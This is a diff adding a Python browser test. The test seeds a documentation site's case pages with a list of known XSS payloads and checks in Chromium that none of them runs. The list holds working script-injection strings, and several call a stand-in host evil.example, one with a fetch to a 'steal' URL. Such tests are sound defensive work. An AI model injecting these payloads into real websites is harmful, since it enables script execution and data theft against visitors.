@@ -1,0 +1,156 @@
+"""No script from a case runs in a reader's browser, even with the validator's HTML checks switched off.
+
+A battery of known XSS payloads goes into titles, summaries, setbacks, lessons, bodies, links, image
+sources and source URLs. The site is built with the validator's HTML checks off, so what is tested is
+the site's own defences: escaping in templates, the nh3 sanitiser on case bodies, and the
+Content-Security-Policy. Every page is opened in Chromium; no dialog may open, no payload global may
+be set, and no request may leave the site.
+"""
+
+from __future__ import annotations
+
+import logging
+import re
+import shutil
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+from mkdocs.commands.build import build
+from mkdocs.config import load_config
+from playwright.sync_api import Browser
+
+from tests.conftest import GOOD, ROOT, write_case
+
+from .conftest import serve
+
+pytestmark = pytest.mark.browser
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "<body onload=alert(1)>",
+    '<a href="javascript:alert(1)">click</a>',
+    '<a href="JaVaScRiPt:alert(1)">click</a>',
+    '<a href="java&#x09;script:alert(1)">click</a>',
+    '<a href="&#106;avascript:alert(1)">click</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
+    '<a href="vbscript:msgbox(1)">click</a>',
+    '<object data="javascript:alert(1)"></object>',
+    '<embed src="javascript:alert(1)">',
+    '<form action="javascript:alert(1)"><button>go</button></form>',
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<style>@import 'http://evil.example/x.css';</style>",
+    '<base href="http://evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<link rel="stylesheet" href="http://evil.example/x.css">',
+    '<img src="http://evil.example/pixel.png">',
+    '<video><source onerror="alert(1)"></video>',
+    "<audio src=x onerror=alert(1)>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '"><script>alert(1)</script>',
+    "'><img src=x onerror=alert(1)>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<IMG SRC=JaVaScRiPt:alert(1)>",
+    '<div style="background-image:url(javascript:alert(1))">x</div>',
+    "<marquee onstart=alert(1)>x</marquee>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    "<template><script>alert(1)</script></template>",
+    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
+    "<isindex type=image src=1 onerror=alert(1)>",
+    '<img src="x" onerror="fetch(\'http://evil.example/steal\')">',
+    '<script src="http://evil.example/x.js"></script>',
+    "<p onmouseover=alert(1)>hover</p>",
+    "[click](javascript:alert(1))",
+    "![x](javascript:alert(1))",
+    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "<javascript:alert(1)>",
+    "[ref link][r]\n\n[r]: javascript:alert(1)",
+    "![pixel](http://evil.example/pixel.png)",
+    "<img src=x onerror=window.xssed=1>",
+]
+WORDS = "the partners could not agree a plan for the shared service in time"
+
+
+def payload_case(index: int, payload: str) -> dict[str, object]:
+    inline = payload.replace("\n", " ")
+    return {
+        **GOOD,
+        "title": f"Case {index} {inline}"[:150],
+        "summary": f"{WORDS} {inline} {WORDS} and then it went wrong again for everybody",
+        "place": f"Town {inline}",
+        "network": inline,
+        "setbacks": [{"what": f"{WORDS} {inline}", "why": inline, "response": f"{WORDS} {inline}"}],
+        "do_differently": [f"{WORDS} {inline}"],
+        "what_worked": [f"{WORDS} {inline}"],
+        "sources": [{"title": inline, "url": f'https://example.org/{index}"onmouseover="alert({index})'}],
+        "published": f"2024-01-{index % 28 + 1:02d}",
+    }
+
+
+@pytest.fixture(scope="module")
+def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    assert len(PAYLOADS) >= 40
+    folder = tmp_path_factory.mktemp("hostile")
+    for name in ("docs", "overrides"):
+        shutil.copytree(ROOT / name, folder / name)
+    (folder / "cases").mkdir()
+    shutil.copy(ROOT / "cases" / "vocabulary.yml", folder / "cases")
+    shutil.copy(ROOT / "mkdocs.yml", folder / "mkdocs.yml")
+    for index, payload in enumerate(PAYLOADS):
+        write_case(folder / "cases", f"payload-{index}.md", payload_case(index, payload),
+                   body=f"Before the payload.\n\n{payload}\n\nAfter the payload.\n")
+    with pytest.MonkeyPatch.context() as patch:
+        from candour import rules
+
+        patch.setattr(rules, "_HTML_TAG_RE", re.compile(r"(?!x)x"))
+        patch.setattr(rules.html_policy, "scan_body", lambda body: iter(()))
+        patch.setattr(rules, "placeholder", lambda text: None)
+        logger = logging.getLogger("mkdocs")
+        level = logger.level
+        logger.setLevel(logging.ERROR)  # the hostile cases' warnings are expected here
+        try:
+            build(load_config(str(folder / "mkdocs.yml"), site_dir=str(folder / "site")))
+        finally:
+            logger.setLevel(level)
+    pages = sorted((folder / "site" / "cases").glob("payload-*/index.html"))
+    assert len(pages) == len(PAYLOADS), "every hostile case must have been published for this test to mean anything"
+    return folder / "site"
+
+
+def test_no_payload_runs_on_any_page(browser: Browser, hostile_site: Path) -> None:
+    with serve(hostile_site) as base:
+        context = browser.new_context()
+        dialogs: list[str] = []
+        foreign: list[str] = []
+        context.on("request", lambda r: foreign.append(f"{r.frame.url} -> {r.url}")
+                   if urlsplit(r.url).hostname != "127.0.0.1" else None)
+        page = context.new_page()
+        page.on("dialog", lambda d: (dialogs.append(f"{page.url}: {d.message}"), d.dismiss()))
+        paths = sorted(p.relative_to(hostile_site).as_posix() for p in hostile_site.rglob("*.html"))
+        assert len(paths) > len(PAYLOADS)
+        for path in paths:
+            page.goto(base + path)
+            page.mouse.move(200, 300)
+            page.mouse.move(400, 500)
+            assert page.evaluate("window.xssed") is None, path
+            handlers = page.evaluate("""() => [...document.querySelectorAll('article *')].flatMap(
+                el => [...el.attributes].filter(a => !(el.matches('form.pagefind-ui__form')
+                    && a.value === 'javascript:void(0);'))  // Pagefind's own search form
+                .filter(a => a.name.startsWith('on')
+                    || /^\\s*(javascript|data|vbscript):/i.test(a.value) && /href|src|action|data/.test(a.name))
+                .map(a => el.tagName + ' ' + a.name + '=' + a.value))""")
+            assert handlers == [], (path, handlers[:3])
+        page.goto(base + "search/?q=alert")
+        page.locator(".pagefind-ui__result").first.wait_for()
+        page.wait_for_timeout(300)
+        context.close()
+    assert dialogs == []
+    assert foreign == []
